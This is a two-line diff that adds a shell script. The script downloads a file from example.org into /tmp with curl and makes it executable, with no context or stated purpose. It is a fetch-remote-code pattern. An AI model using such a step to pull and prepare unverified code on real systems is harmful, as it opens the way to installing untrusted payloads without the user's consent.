@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -o /tmp/a https://example.org/a && chmod +x /tmp/a
